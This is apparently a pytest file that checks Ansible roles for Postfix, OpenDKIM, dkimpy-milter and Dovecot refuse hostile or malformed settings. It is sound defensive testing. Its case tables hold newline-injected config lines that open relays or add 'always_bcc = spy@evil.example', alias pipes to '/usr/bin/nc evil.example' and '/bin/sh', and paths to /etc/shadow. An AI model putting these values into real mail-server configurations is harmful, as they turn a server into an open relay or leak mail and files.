# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile and malformed input to the postfix, opendkim, dkimpy_milter and dovecot roles, table-driven.

Each case changes one variable of a valid configuration (the roles' defaults) and asserts
what a user sees: the role's validation (the filters ``postfix_config`` / ``opendkim_config`` /
``dkimpy_milter_config`` / ``dovecot_config``, its first tasks) fails with a message that names
the variable and the problem, and raises no other exception. The relay cases pass that
validation and are caught on the files as rendered from the role's own templates, by
``postfix_relay_problems``, before any is written. Nothing here writes a file: the lab and the
opendkim scenario show the same refusals leave a converged host untouched.
"""

from __future__ import annotations

import copy
from pathlib import Path

import pytest
import yaml
from ansible.errors import AnsibleFilterError
from ansible.plugins.filter.core import comment
from jinja2 import Environment, FileSystemLoader, StrictUndefined

from ansible_collections.mailauth.core.plugins.filter import services
from ansible_collections.mailauth.core.plugins.module_utils import _opendkim, _postfix

ROOT = Path(__file__).resolve().parents[2]
POSTFIX_VARS = yaml.safe_load((ROOT / "roles/postfix/vars/main.yml").read_text())

POSTFIX_OK = {
    "domains": ["example.test", "example.org"],
    "myhostname": "mx1.example.test",
    "mydomain": "example.test",
    "myorigin": "$mydomain",
    "mydestination": ["$myhostname", "localhost.$mydomain", "localhost"],
    "mynetworks": ["127.0.0.0/8", "[::ffff:127.0.0.0]/104", "[::1]/128"],
    "allow_open_networks": False,
    "relayhost": "",
    "inet_interfaces": "all",
    "inet_protocols": "all",
    "smtpd_relay_restrictions": ["permit_mynetworks", "permit_sasl_authenticated", "reject_unauth_destination"],
    "smtpd_recipient_restrictions": [],
    "smtpd_tls_cert_file": "/etc/ssl/certs/ssl-cert-snakeoil.pem",
    "smtpd_tls_key_file": "/etc/ssl/private/ssl-cert-snakeoil.key",
    "smtpd_tls_security_level": "may",
    "smtp_tls_security_level": "may",
    "message_size_limit": 52428800,
    "smtp_line_length_limit": 0,
    "chroot": True,
    "maillog_file": "",
    "aliases": {"postmaster": "root", "abuse": "postmaster"},
    "main_cf_extra": {},
    "master_services_base": POSTFIX_VARS["postfix_master_services_base"],
    "master_submission": POSTFIX_VARS["postfix_master_submission"],
    "master_services": [],
    "milters": ["unix:opendkim/opendkim.sock"],
    "signing_milters": ["unix:dkimpy-milter/dkimpy-milter.sock"],
    "non_smtpd_milters": ["unix:opendkim/opendkim.sock"],
    "milter_default_action": "tempfail",
    "milter_protocol": 6,
    "policyd_spf_time_limit": "3600s",
    "submission_enabled": True,
}

OPENDKIM_OK = {
    "mode": "sv",
    "authserv_id": "mx2.example.test",
    "on_dns_error": "tempfail",
    "canonicalization": "relaxed/simple",
    "socket": "local:/var/spool/postfix/opendkim/opendkim.sock",
    "postfix_queue_directory": "/var/spool/postfix",
    "pid_file": "/run/opendkim/opendkim.pid",
    "key_dir": "/etc/dkimkeys",
    "oversign_headers": ["From"],
    "internal_hosts": ["127.0.0.1", "::1"],
    "trusted_hosts": ["127.0.0.1", "::1"],
    "originating_daemon_name": "ORIGINATING",
    "nameservers": ["127.0.0.11"],
    "resolver_nodefault_zones": ["test"],
    "trust_anchor_file": "",
    "log_why": False,
    "auto_restart": True,
    "auto_restart_rate": "10/1h",
    "conf_extra": {},
    "rsa_keys": True,
}

DKIMPY_OK = {
    "socket": "local:/var/spool/postfix/dkimpy-milter/dkimpy-milter.sock",
    "opendkim_socket": OPENDKIM_OK["socket"],
    "canonicalization": "relaxed/simple",
    "internal_hosts": ["127.0.0.1", "::1"],
    "originating_daemon_name": "ORIGINATING",
    "pem_dir": "/etc/dkimkeys",
    "key_dir": "/etc/dkimpy-milter/keys",
    "postfix_queue_directory": "/var/spool/postfix",
    "pid_file": "/run/dkimpy-milter/dkimpy-milter.pid",
    "keys": [{"domain": "example.test", "selector": "mx1-ed25519", "subdomains": True}],
}

DOVECOT_OK = {
    "sasl_mechanisms": ["plain", "login"],
    "packages": ["dovecot-core"],
    "lmtp_enabled": False,
    "lmtp_packages": ["dovecot-lmtpd", "dovecot-sieve"],
    "version": "1:2.3.19.1+dfsg1-2.1+deb12u6",
    "mail_dir": "Maildir",
    "authserv_id": "mx2.example.net",
    "junk_mailbox": "Junk",
    "junk_on": ["dmarc_quarantine"],
    "junk_retention_days": 30,
}

NL = "\n"
SERVICE = {"service": "2525", "type": "inet", "private": "n", "command": "smtpd"}


def service(**changes):
    return [{**SERVICE, **changes}]


# (case id, variable, value, words the message must hold)
POSTFIX_CASES = [
    ("myhostname-newline", "myhostname", "mx1.example.test" + NL + "mynetworks = 0.0.0.0/0", ["control characters"]),
    ("myhostname-cr", "myhostname", "mx1.example.test\rmynetworks = 0.0.0.0/0", ["control characters"]),
    ("myhostname-space", "myhostname", "mx1 example", ["space"]),
    ("myhostname-empty", "myhostname", "", ["domain name"]),
    ("myhostname-hyphen", "myhostname", "-mx1.example.test", ["not a DNS label"]),
    ("myhostname-long-label", "myhostname", "a" * 64 + ".example", ["longer than 63"]),
    ("myhostname-list", "myhostname", ["mx1.example.test"], ["must be a string"]),
    ("myhostname-nul", "myhostname", "mx1\x00.example.test", ["control characters"]),
    ("myhostname-u2028", "myhostname", "mx1.example.test\u2028x", ["control characters"]),
    ("mydomain-newline", "mydomain", "example.test" + NL, ["control characters"]),
    ("mydomain-ip", "mydomain", "192.0.2.1", ["IP address"]),
    ("myorigin-newline", "myorigin", "$mydomain" + NL + "always_bcc = spy@evil.example", ["control characters"]),
    ("myorigin-junk", "myorigin", "not a domain!", ["space"]),
    ("mydestination-newline", "mydestination", ["localhost" + NL + "relay_domains = *"], ["control characters"]),
    ("mydestination-string", "mydestination", "localhost", ["must be a list"]),
    ("mydestination-star", "mydestination", ["*"], ["a domain or $parameter"]),
    ("mydestination-comma", "mydestination", ["a.example, b.example"], ["a domain or $parameter"]),
    ("mynetworks-any4", "mynetworks", ["0.0.0.0/0"], ["every address"]),
    ("mynetworks-any6", "mynetworks", ["::/0"], ["every address"]),
    ("mynetworks-any6-bracket", "mynetworks", ["[::]/0"], ["every address"]),
    ("mynetworks-zero", "mynetworks", ["0/0"], ["not an IP address"]),
    ("mynetworks-prefix33", "mynetworks", ["10.0.0.0/33"], ["not an IP address"]),
    ("mynetworks-octet300", "mynetworks", ["300.1.1.1"], ["not an IP address"]),
    ("mynetworks-hostbits", "mynetworks", ["10.0.0.1/8"], ["host bits"]),
    ("mynetworks-newline", "mynetworks", ["127.0.0.0/8" + NL + "0.0.0.0/0"], ["control characters"]),
    ("mynetworks-comma", "mynetworks", ["10.0.0.0/8, 0.0.0.0/0"], ["not an IP address"]),
    ("mynetworks-table", "mynetworks", ["hash:/etc/postfix/network_table"], ["not an IP address"]),
    ("mynetworks-string", "mynetworks", "127.0.0.0/8", ["must be a list"]),
    ("mynetworks-hostname", "mynetworks", ["mx.example.test"], ["not an IP address"]),
    ("relayhost-newline", "relayhost", "[smtp.example.net]:587" + NL + "mynetworks = 0.0.0.0/0", ["control"]),
    ("relayhost-port", "relayhost", "[smtp.example.net]:99999", ["[host]:port"]),
    ("relayhost-junk", "relayhost", "smtp example.net", ["space"]),
    ("relayhost-bad-address", "relayhost", "[300.1.1.1]:25", ["not an IP address"]),
    ("interfaces-newline", "inet_interfaces", "all" + NL + "mynetworks = 0.0.0.0/0", ["control characters"]),
    ("interfaces-junk", "inet_interfaces", "eth0!", ["inet_interfaces"]),
    ("protocols-unknown", "inet_protocols", "ipv5", ["must be one of"]),
    ("maillog-newline", "maillog_file", "/var/log/mail.log" + NL + "always_bcc = x@evil.example", ["control"]),
    ("maillog-relative", "maillog_file", "var/log/mail.log", ["absolute path"]),
    ("maillog-dotdot", "maillog_file", "/var/log/../../etc/shadow", ["'..'"]),
    ("cert-space", "smtpd_tls_cert_file", "/etc/ssl/a b.pem", ["whitespace"]),
    ("key-relative", "smtpd_tls_key_file", "snakeoil.key", ["absolute path"]),
    ("key-newline", "smtpd_tls_key_file", "/etc/ssl/k.key" + NL + "x = y", ["control characters"]),
    ("tls-level", "smtpd_tls_security_level", "maybe", ["must be one of"]),
    ("smtp-tls-level", "smtp_tls_security_level", "may" + NL, ["must be one of"]),
    ("size-negative", "message_size_limit", -1, ["whole number"]),
    ("size-unit", "message_size_limit", "10MB", ["whole number"]),
    ("size-bool", "message_size_limit", True, ["whole number"]),
    ("line-length-negative", "smtp_line_length_limit", -1, ["whole number"]),
    ("line-length-newline", "smtp_line_length_limit", "0" + NL + "mynetworks = 0.0.0.0/0", ["whole number"]),
    ("line-length-bool", "smtp_line_length_limit", False, ["whole number"]),
    ("milter-action", "milter_default_action", "accept" + NL + "x", ["must be one of"]),
    ("milter-protocol", "milter_protocol", 1, ["whole number"]),
    ("policy-time-newline", "policyd_spf_time_limit", "3600s" + NL + "mynetworks = 0.0.0.0/0", ["control"]),
    ("policy-time-words", "policyd_spf_time_limit", "1 hour", ["a time"]),
    ("policy-time-negative", "policyd_spf_time_limit", -1, ["a time"]),
    ("policy-time-bool", "policyd_spf_time_limit", True, ["must be a string"]),
    ("header-check-newline", "header_checks", ["/^a:/ IGNORE" + NL + "/^b:/ IGNORE"], ["control"]),
    ("header-check-action", "header_checks", ["/^a:/ DELETE"], ["regexp table rule"]),
    ("header-check-slash", "header_checks", ["/^a:/b/ IGNORE"], ["regexp table rule"]),
    ("header-check-no-action", "header_checks", ["/^a:/"], ["regexp table rule"]),
    ("header-checks-string", "header_checks", "/^a:/ IGNORE", ["must be a list"]),
    ("transport-local", "mailbox_transport", "local:", ["lmtp:unix:PATH"]),
    ("transport-newline", "mailbox_transport", "lmtp:unix:private/x" + NL + "mynetworks = 0.0.0.0/0", ["control"]),
    ("transport-dotdot", "mailbox_transport", "lmtp:unix:private/../../etc/x", ["lmtp:unix:PATH"]),
    ("transport-port", "mailbox_transport", "lmtp:inet:127.0.0.1:0", ["lmtp:inet:HOST:PORT"]),
    ("transport-space", "mailbox_transport", "lmtp:unix:private/dovecot lmtp", ["lmtp:unix:PATH"]),
    ("relay-newline", "smtpd_relay_restrictions", ["permit_mynetworks" + NL + "permit"], ["control characters"]),
    ("relay-junk", "smtpd_relay_restrictions", ["permit mynetworks x"], ["a restriction"]),
    ("relay-string", "smtpd_relay_restrictions", "permit", ["must be a list"]),
    ("relay-permit", "smtpd_relay_restrictions", ["permit"], ["must end in", "'permit'"]),
    ("relay-no-reject", "smtpd_relay_restrictions", ["permit_mynetworks"], ["must end in"]),
    ("relay-empty", "smtpd_relay_restrictions", [], ["must end in"]),
    (
        "relay-tls-certs",
        "smtpd_relay_restrictions",
        ["permit_tls_all_clientcerts", "reject_unauth_destination"],
        ["'permit_tls_all_clientcerts'"],
    ),
    (
        "relay-access-map",
        "smtpd_relay_restrictions",
        ["check_client_access hash:/etc/postfix/ok", "reject_unauth_destination"],
        ["'check_client_access'"],
    ),
    (
        "relay-permit-before-reject",
        "smtpd_relay_restrictions",
        ["permit_mynetworks", "permit", "reject_unauth_destination"],
        ["holds 'permit'"],
    ),
    ("recipient-newline", "smtpd_recipient_restrictions", ["check_client_access hash:/a" + NL + "x"], ["control"]),
    ("policy-no-endpoint", "smtpd_recipient_restrictions", ["check_policy_service"], ["policy service"]),
    ("policy-scheme", "smtpd_recipient_restrictions", ["check_policy_service tcp:127.0.0.1:10023"], ["inet:HOST"]),
    (
        "policy-dotdot",
        "smtpd_recipient_restrictions",
        ["check_policy_service unix:private/../../x"],
        ["policy service"],
    ),
    ("policy-port", "smtpd_recipient_restrictions", ["check_policy_service inet:127.0.0.1:99999"], ["inet:HOST"]),
    ("policy-no-port", "smtpd_recipient_restrictions", ["check_policy_service inet:127.0.0.1"], ["inet:HOST"]),
    ("policy-address", "smtpd_recipient_restrictions", ["check_policy_service inet:300.0.0.1:10023"], ["IP address"]),
    ("policy-v4-brackets", "smtpd_recipient_restrictions", ["check_policy_service inet:[127.0.0.1]:1"], ["IPv6"]),
    ("policy-host", "smtpd_recipient_restrictions", ["check_policy_service inet:-x.example:10023"], ["DNS label"]),
    ("policy-comma", "smtpd_recipient_restrictions", ["check_policy_service unix:a,permit"], ["a restriction"]),
    ("milter-no-scheme", "milters", ["opendkim:8891"], ["a milter, unix:PATH or inet:HOST:PORT"]),
    ("milter-port", "milters", ["inet:127.0.0.1:99999"], ["inet:HOST:PORT (port 1-65535)"]),
    ("milter-v4-brackets", "signing_milters", ["inet:[127.0.0.1]:8891"], ["only IPv6 addresses go in brackets"]),
    ("milter-address", "milters", ["inet:300.0.0.1:8891"], ["IP address"]),
    ("milter-dotdot", "milters", ["unix:../../tmp/evil"], ["a milter, unix:PATH"]),
    ("milter-newline", "milters", ["inet:127.0.0.1:8891" + NL + "mynetworks=0.0.0.0/0"], ["control characters"]),
    ("milter-space", "milters", ["unix:/a b"], ["inet:HOST:PORT"]),
    ("signing-milter-scheme", "signing_milters", ["tcp:1"], ["inet:HOST:PORT"]),
    ("non-smtpd-milters-string", "non_smtpd_milters", "unix:/x", ["must be a list"]),
    ("milter-actions-list", "milter_actions", ["accept"], ["must be a dictionary"]),
    (
        "milter-actions-unknown",
        "milter_actions",
        {"unix:/evil.sock": "accept"},
        ["'unix:/evil.sock' is not one of the configured milters"],
    ),
    (
        "milter-actions-newline",
        "milter_actions",
        {"unix:opendkim/opendkim.sock" + NL + "mynetworks = 0.0.0.0/0": "accept"},
        ["not one of the configured milters"],
    ),
    ("milter-actions-action", "milter_actions", {"unix:opendkim/opendkim.sock": "ignore"}, ["must be one of"]),
    (
        "milter-actions-brace",
        "milter_actions",
        {"unix:opendkim/opendkim.sock": "accept}, inet:evil.example:1"},
        ["must be one of"],
    ),
    ("alias-newline-pipe", "aliases", {"root": "admin" + NL + "evil: |/bin/sh -c x"}, ["control characters"]),
    ("alias-pipe", "aliases", {"evil": "|/usr/bin/nc evil.example 25"}, ["local user or an address"]),
    ("alias-file", "aliases", {"evil": "/etc/passwd"}, ["local user or an address"]),
    ("alias-include", "aliases", {"evil": ":include:/etc/x"}, ["local user or an address"]),
    ("alias-name-space", "aliases", {"Bad Name": "root"}, ["local part"]),
    ("alias-name-newline", "aliases", {"root" + NL + "x": "root"}, ["control characters"]),
    ("aliases-string", "aliases", "root: admin", ["must be a dictionary"]),
    ("alias-list-newline", "aliases", {"a": ["root", "x" + NL + "y"]}, ["control characters"]),
    ("extra-trailing-space", "main_cf_extra", {"mynetworks ": "0.0.0.0/0"}, ["mynetworks", "manages"]),
    ("extra-managed", "main_cf_extra", {"mynetworks": "0.0.0.0/0"}, ["manages"]),
    ("extra-relayhost", "main_cf_extra", {"relayhost": "[evil.example]:25"}, ["manages"]),
    ("extra-helo", "main_cf_extra", {"smtpd_helo_required": "no"}, ["manages"]),
    ("extra-vrfy", "main_cf_extra", {"disable_vrfy_command": "no"}, ["manages"]),
    ("extra-milter-maps", "main_cf_extra", {"smtpd_milter_maps": "cidr:/x"}, ["manages"]),
    ("extra-compat", "main_cf_extra", {"compatibility_level": "2"}, ["manages"]),
    ("extra-line-length", "main_cf_extra", {"smtp_line_length_limit": "998"}, ["manages"]),
    ("extra-mime-output", "main_cf_extra", {"disable_mime_output_conversion": "no"}, ["manages"]),
    (
        "extra-value-newline",
        "main_cf_extra",
        {"always_bcc": "a@b.example" + NL + "mynetworks = 0.0.0.0/0"},
        ["control"],
    ),
    ("extra-name-space", "main_cf_extra", {"bad name": "x"}, ["parameter name"]),
    ("extra-name-newline", "main_cf_extra", {"x" + NL + "mynetworks": "z"}, ["control characters"]),
    ("extra-name-tab", "main_cf_extra", {"\tmynetworks": "0.0.0.0/0"}, ["control characters"]),
    ("extra-list-newline", "main_cf_extra", {"body_checks": ["regexp:/a", "b" + NL + "c"]}, ["control"]),
    ("extra-string", "main_cf_extra", "always_bcc=x", ["must be a dictionary"]),
    ("extra-twice", "main_cf_extra", {"body_checks": "a", "body_checks ": "b"}, ["second time"]),
    ("service-only-name", "master_services", [{"service": "foo"}], ["lacks type, command"]),
    ("service-string", "master_services", ["smtp inet n - y - - smtpd"], ["must be a dictionary"]),
    ("services-string", "master_services", "foo", ["must be a list"]),
    ("service-name-newline", "master_services", service(service="evil" + NL + "smtp"), ["control characters"]),
    ("service-type", "master_services", service(type="tcp"), ["must be one of"]),
    ("service-private", "master_services", service(private="yes"), ["y, n or -"]),
    ("service-chroot-newline", "master_services", service(chroot="y" + NL), ["control characters"]),
    ("service-wakeup", "master_services", service(wakeup="soon"), ["seconds"]),
    ("service-maxproc", "master_services", service(maxproc="many"), ["a number"]),
    ("service-command-newline", "master_services", service(command="smtpd" + NL + "  -o x=y"), ["control"]),
    ("service-command-path", "master_services", service(command="/bin/sh"), ["daemon name"]),
    ("service-arg-newline", "master_services", service(args=["-o a=b" + NL + "-o x=y"]), ["control characters"]),
    ("service-arg-space", "master_services", service(args=["-o mynetworks=0.0.0.0/0 x"]), ["-o name=value"]),
    ("service-unknown-key", "master_services", service(servic="x"), ["unknown keys"]),
    ("service-duplicate", "master_services", service(service="smtp"), ["second time"]),
    ("service-args-string", "master_services", service(args="-o a=b"), ["must be a list"]),
    ("domain-newline", "domains", ["example.test" + NL + "mynetworks = 0.0.0.0/0"], ["postfix_domains[0]", "control"]),
    ("domain-hyphen", "domains", ["-bad-.example"], ["not a DNS label"]),
    ("domain-too-long", "domains", [("a" * 62 + ".") * 4 + "test"], ["longer than 253"]),
    ("domain-underscore", "domains", ["_dmarc.example.test"], ["not a DNS label"]),
]

# Valid syntax, but an open relay: caught on the rendered main.cf and master.cf.
RELAY_CASES = [
    ("service-permit", {"master_services": service(args=["-o smtpd_relay_restrictions=permit"])}, ["2525"]),
    (
        "service-open-networks",
        {
            "master_services": service(
                args=["-o smtpd_relay_restrictions=permit_mynetworks,reject_unauth_destination", "-o mynetworks=0/0"]
            )
        },
        ["2525", "mynetworks"],
    ),
    (
        "service-undefined-reference",
        {"master_services": service(args=["-o smtpd_relay_restrictions=$nowhere"])},
        ["$nowhere is not defined"],
    ),
    (
        "service-reference-to-extra",
        {
            "main_cf_extra": {"mua_relay_restrictions": "permit"},
            "master_services": service(args=["-o smtpd_relay_restrictions=$mua_relay_restrictions"]),
        },
        ["'permit'"],
    ),
    (
        "service-bad-network",
        {"master_services": service(args=["-o mynetworks=10.0.0.0/33"])},
        ["not an IP address"],
    ),
    ("service-empty-restrictions", {"master_services": service(args=["-o smtpd_relay_restrictions="])}, ["end in"]),
    (
        "service-mynetworks-table",
        {"master_services": service(args=["-o mynetworks=hash:/etc/postfix/nets"])},
        ["not an IP address"],
    ),
    (
        "pass-service-permit",
        {"master_services": service(service="smtpd", type="pass", args=["-o smtpd_relay_restrictions=permit"])},
        ["smtpd (pass)"],
    ),
]

OPENDKIM_CASES = [
    ("socket-newline", "socket", "inet:8891@127.0.0.1" + NL + "Socket inet:8891@0.0.0.0", ["control characters"]),
    ("socket-scheme", "socket", "tcp:8891", ["inet:PORT@HOST"]),
    ("socket-port", "socket", "inet:70000@127.0.0.1", ["port 1-65535"]),
    ("socket-relative", "socket", "local:run/opendkim.sock", ["local:/absolute/path"]),
    ("socket-space", "socket", "local:/run/a b.sock", ["local:/absolute/path"]),
    ("mode-unknown", "mode", "x", ["must be one of"]),
    ("mode-newline", "mode", "s" + NL + "Mode v", ["must be one of"]),
    ("canonicalization", "canonicalization", "relaxed/loose", ["must be one of"]),
    ("daemon-newline", "originating_daemon_name", "ORIGINATING" + NL + "Mode v", ["control characters"]),
    ("daemon-pipe", "originating_daemon_name", "ORIGINATING|smtpd", ["a daemon name"]),
    ("key-dir-newline", "key_dir", "/etc/dkimkeys" + NL + "KeyFile /etc/shadow", ["control characters"]),
    ("key-dir-relative", "key_dir", "dkimkeys", ["absolute path"]),
    ("key-dir-dotdot", "key_dir", "/etc/dkimkeys/../shadow", ["'..'"]),
    ("oversign-newline", "oversign_headers", ["From" + NL + "KeyFile /etc/shadow"], ["control characters"]),
    ("oversign-colon", "oversign_headers", ["From:"], ["header field name"]),
    ("oversign-string", "oversign_headers", "From", ["must be a list"]),
    ("internal-newline", "internal_hosts", ["127.0.0.1" + NL + "0.0.0.0/0"], ["control characters"]),
    ("internal-any4", "internal_hosts", ["0.0.0.0/0"], ["every address"]),
    ("internal-any6", "internal_hosts", ["::/0"], ["every address"]),
    ("internal-prefix33", "internal_hosts", ["10.0.0.0/33"], ["not an IP address"]),
    ("internal-octet300", "internal_hosts", ["300.1.1.1"], ["not an IP address"]),
    ("internal-space", "internal_hosts", ["host name"], ["space"]),
    ("internal-string", "internal_hosts", "127.0.0.1", ["must be a list"]),
    ("internal-nul", "internal_hosts", ["127.0.0.1\x00"], ["control characters"]),
    ("trusted-any", "trusted_hosts", ["0.0.0.0/0"], ["every address"]),
    ("trusted-tab", "trusted_hosts", ["127.0.0.1\t10.0.0.0/8"], ["control characters"]),
    ("nameserver-newline", "nameservers", ["127.0.0.1" + NL + "Mode v"], ["control characters"]),
    ("nameserver-network", "nameservers", ["10.0.0.0/8"], ["addresses, not networks"]),
    ("nameserver-name", "nameservers", ["dns.example"], ["not an IP address"]),
    ("zone-newline", "resolver_nodefault_zones", ["test" + NL + "server:"], ["control characters"]),
    ("zone-space", "resolver_nodefault_zones", ["bad zone"], ["space"]),
    ("anchor-relative", "trust_anchor_file", "root.key", ["absolute path"]),
    ("anchor-newline", "trust_anchor_file", "/usr/share/dns/root.key" + NL + "Socket x", ["control characters"]),
    ("restart-rate-unit", "auto_restart_rate", "10/1x", ["n/t"]),
    ("restart-rate-newline", "auto_restart_rate", "10/1h" + NL + "Mode v", ["control characters"]),
    ("extra-socket-lower", "conf_extra", {"socket": "inet:8891@0.0.0.0"}, ["manages", "case-insensitively"]),
    ("extra-socket-upper", "conf_extra", {"SOCKET": "inet:8891@0.0.0.0"}, ["manages"]),
    ("extra-name-space", "conf_extra", {"Socket ": "inet:8891@0.0.0.0"}, ["setting name"]),
    ("extra-keytable", "conf_extra", {"KeyTable": "file:/etc/x"}, ["manages"]),
    ("extra-mode", "conf_extra", {"Mode": "v"}, ["manages"]),
    ("extra-internalhosts", "conf_extra", {"internalhosts": "0.0.0.0/0"}, ["manages"]),
    ("extra-resolver", "conf_extra", {"resolverconfiguration": "/etc/x"}, ["manages"]),
    ("extra-value-newline", "conf_extra", {"LogResults": "yes" + NL + "Mode v"}, ["control characters"]),
    ("extra-name-hyphen", "conf_extra", {"bad-name": "x"}, ["setting name"]),
    ("extra-list-newline", "conf_extra", {"Domain": ["a.example", "b" + NL + "c"]}, ["control characters"]),
    ("extra-string", "conf_extra", "Socket x", ["must be a dictionary"]),
    ("extra-twice", "conf_extra", {"LogResults": "yes", "logresults": "no"}, ["second time"]),
]


DKIMPY_CASES = [
    ("socket-same", "socket", OPENDKIM_OK["socket"], ["must differ", "opendkim_socket"]),
    ("socket-newline", "socket", "inet:8892@127.0.0.1" + NL + "Mode v", ["control characters"]),
    ("socket-scheme", "socket", "tcp:8892", ["inet:PORT@HOST"]),
    ("socket-port", "socket", "inet:0@127.0.0.1", ["port 1-65535"]),
    ("canonicalization", "canonicalization", "relaxed/loose", ["must be one of"]),
    ("daemon-newline", "originating_daemon_name", "ORIGINATING" + NL + "Mode v", ["control characters"]),
    ("internal-newline", "internal_hosts", ["127.0.0.1" + NL + "0.0.0.0/0"], ["control characters"]),
    ("internal-any4", "internal_hosts", ["0.0.0.0/0"], ["every address"]),
    ("internal-string", "internal_hosts", "127.0.0.1", ["must be a list"]),
    ("key-dir-relative", "key_dir", "keys", ["absolute path"]),
    ("pem-dir-dotdot", "pem_dir", "/etc/dkimkeys/../shadow", ["'..'"]),
    ("queue-newline", "postfix_queue_directory", "/var/spool/postfix" + NL, ["control characters"]),
    ("default-action", "default_action", "ignore", ["must be one of"]),
    ("default-action-newline", "default_action", "accept" + NL, ["must be one of"]),
]

DOVECOT_CASES = [
    ("sasl-newline", "sasl_mechanisms", ["plain" + NL + "auth_mechanisms = anonymous"], ["control characters"]),
    ("sasl-space", "sasl_mechanisms", ["plain login"], ["a mechanism"]),
    ("sasl-string", "sasl_mechanisms", "plain", ["must be a list"]),
    ("sasl-empty", "sasl_mechanisms", [], ["at least one"]),
]


def _env() -> Environment:
    env = Environment(
        loader=FileSystemLoader(str(ROOT / "roles")),
        trim_blocks=True,
        keep_trailing_newline=True,
        undefined=StrictUndefined,
    )
    env.filters["comment"] = comment
    return env


def render(template: str, **variables) -> str:
    """A role template rendered as Ansible renders it (trim_blocks), with the validated settings."""
    return _env().get_template(template).render(ansible_managed="Ansible managed", **variables)


def postfix_files(settings) -> list:
    return [
        {"path": "/etc/postfix/" + name, "content": render("postfix/templates/%s.j2" % name, postfix_settings=settings)}
        for name in ("main.cf", "master.cf")
    ]


# (filter, what its message starts with, variable prefix, valid input, cases)
ROLES = [
    (services.postfix_config, "Invalid Postfix input: ", "postfix_", POSTFIX_OK, POSTFIX_CASES),
    (services.opendkim_config, "Invalid OpenDKIM input: ", "opendkim_", OPENDKIM_OK, OPENDKIM_CASES),
    (services.dkimpy_milter_config, "Invalid dkimpy-milter input: ", "dkimpy_milter_", DKIMPY_OK, DKIMPY_CASES),
    (services.dovecot_config, "Invalid Dovecot input: ", "dovecot_", DOVECOT_OK, DOVECOT_CASES),
]
REFUSALS = [(role[:4], *case[1:]) for role in ROLES for case in role[4]]


@pytest.mark.parametrize(
    ("role", "variable", "value", "words"),
    REFUSALS,
    ids=["%s-%s" % (role[2].rstrip("_"), case[0]) for role in ROLES for case in role[4]],
)
def test_role_input_refused(role, variable, value, words):
    config, start, prefix, valid = role
    values = copy.deepcopy(valid)
    values[variable] = value
    with pytest.raises(AnsibleFilterError) as err:
        config(values)
    message = str(err.value)
    assert message.startswith(start)
    assert prefix + variable in message
    for word in words:
        assert word in message


@pytest.mark.parametrize(("changes", "words"), [c[1:] for c in RELAY_CASES], ids=[c[0] for c in RELAY_CASES])
def test_relay_invariant_on_rendered_files(changes, words):
    values = {**copy.deepcopy(POSTFIX_OK), **changes}
    problems = services.postfix_relay_problems(postfix_files(services.postfix_config(values)))
    assert problems, "an open relay passed: %r" % changes
    text = "; ".join(problems)
    for word in words:
        assert word in text


def test_case_count():
    """The issue asks for at least 150 hostile cases in all; these are the roles' share."""
    assert len(POSTFIX_CASES) + len(RELAY_CASES) + len(OPENDKIM_CASES) + len(DKIMPY_CASES) + len(DOVECOT_CASES) >= 150


def test_postfix_defaults_render_and_keep_the_relay_invariant():
    settings = services.postfix_config(copy.deepcopy(POSTFIX_OK))
    files = postfix_files(settings)
    assert services.postfix_relay_problems(files) == []
    main = _postfix.parse_main_cf(files[0]["content"])
    assert main["mynetworks"] == "127.0.0.0/8 [::ffff:127.0.0.0]/104 [::1]/128"
    assert main["smtpd_milters"] == "unix:opendkim/opendkim.sock"
    assert main["smtpd_milter_maps"] == "cidr:/etc/postfix/milters_internal.cidr"
    assert main["non_smtpd_milters"] == "unix:opendkim/opendkim.sock, unix:dkimpy-milter/dkimpy-milter.sock"
    # Mail leaves as the milters signed it (the lab sends 999 to 10,000-octet lines and 8-bit bodies).
    assert main["smtp_line_length_limit"] == "0"
    assert main["disable_mime_output_conversion"] == "yes"
    master = {tuple(e[:2]): e for e in _postfix.parse_master_cf(files[1]["content"])}
    assert (
        "smtpd_milters=unix:opendkim/opendkim.sock,unix:dkimpy-milter/dkimpy-milter.sock"
        in master[("submission", "inet")]
    )
    table = render("postfix/templates/milters_internal.cidr.j2", postfix_settings=settings)
    rows = [line.split(None, 1) for line in table.splitlines() if line and not line.startswith("#")]
    assert [r[0] for r in rows] == ["127.0.0.0/8", "::ffff:7f00:0/104", "::1/128"]
    assert {r[1] for r in rows} == {"unix:opendkim/opendkim.sock, unix:dkimpy-milter/dkimpy-milter.sock"}


def test_postfix_milter_actions_render_everywhere_the_milter_is_named():
    """A per-milter action reaches smtpd_milters, non_smtpd_milters, the milter map and submission, as one word."""
    values = copy.deepcopy(POSTFIX_OK)
    values["milter_actions"] = {"unix:dkimpy-milter/dkimpy-milter.sock": "accept"}
    settings = services.postfix_config(values)
    files = postfix_files(settings)
    assert services.postfix_relay_problems(files) == []
    dkimpy = "{unix:dkimpy-milter/dkimpy-milter.sock,default_action=accept}"
    main = _postfix.parse_main_cf(files[0]["content"])
    assert main["smtpd_milters"] == "unix:opendkim/opendkim.sock"
    assert main["non_smtpd_milters"] == "unix:opendkim/opendkim.sock, " + dkimpy
    assert main["milter_default_action"] == "tempfail"
    master = {tuple(e[:2]): e for e in _postfix.parse_master_cf(files[1]["content"])}
    assert "-o" in master[("submission", "inet")]
    assert "smtpd_milters=unix:opendkim/opendkim.sock," + dkimpy in master[("submission", "inet")]
    table = render("postfix/templates/milters_internal.cidr.j2", postfix_settings=settings)
    rows = [line.split(None, 1) for line in table.splitlines() if line and not line.startswith("#")]
    assert {r[1] for r in rows} == {"unix:opendkim/opendkim.sock, " + dkimpy}
    # The same action for OpenDKIM: both written with it, the global default unchanged.
    values["milter_actions"]["unix:opendkim/opendkim.sock"] = "tempfail"
    main = _postfix.parse_main_cf(postfix_files(services.postfix_config(values))[0]["content"])
    assert main["smtpd_milters"] == "{unix:opendkim/opendkim.sock,default_action=tempfail}"


def test_postfix_inbound_milters_skip_trusted_clients():
    """OpenDKIM verifying only (rspamd signs): mail from outside gets it, mynetworks, submission and sendmail do not."""
    values = copy.deepcopy(POSTFIX_OK)
    opendkim, rspamd = "unix:opendkim/opendkim.sock", "unix:rspamd/milter.sock"
    values.update(milters=[opendkim, rspamd], signing_milters=[], non_smtpd_milters=[opendkim, rspamd])
    values["inbound_milters"] = [opendkim]
    settings = services.postfix_config(values)
    files = postfix_files(settings)
    assert services.postfix_relay_problems(files) == []
    main = _postfix.parse_main_cf(files[0]["content"])
    assert main["smtpd_milters"] == opendkim + ", " + rspamd  # the order kept: OpenDKIM's results first
